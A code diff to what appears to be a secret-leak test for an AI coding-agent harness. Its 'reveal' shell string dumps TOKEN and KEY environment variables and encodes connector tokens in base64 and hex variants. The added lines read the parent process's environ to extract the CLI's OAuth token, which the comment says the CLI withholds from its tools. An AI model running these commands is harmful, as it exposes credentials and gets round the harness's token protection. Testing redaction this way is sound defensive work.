@@ -16,9 +16,11 @@ const values = {
 const forms = Object.entries(values).flatMap(([name, value]) => formsOf(name, value));
 const url = 'https://git.example.org';
 
-// Everything it has, in every way that is at hand.
-const reveal = `env | grep -E 'CONNECTOR_|TOKEN|KEY' ; env | base64; env | base64 -w0; echo;
-for v in "$CONNECTOR_GIT_LAB_TOKEN" "$CONNECTOR_SLACK" "$CLAUDE_CODE_OAUTH_TOKEN"; do
+// Everything it has, in every way that is at hand. The CLI keeps its own token from its tools, but
+// not out of their reach.
+const reveal = `own=$(tr '\\0' '\\n' < /proc/$PPID/environ | sed -n 's/^CLAUDE_CODE_OAUTH_TOKEN=//p');
+echo "$own"; env | grep -E 'CONNECTOR_|TOKEN|KEY' ; env | base64; env | base64 -w0; echo;
+for v in "$CONNECTOR_GIT_LAB_TOKEN" "$CONNECTOR_SLACK" "$own"; do
 printf %s "$v" | base64; printf %s "$v" | base64 -w0 | tr +/ -_; echo;
 printf x%s "$v" | base64; printf xy%s "$v" | base64 -w 20;
 printf %s "$v" | od -An -v -tx1 | tr -d ' \\n'; echo;
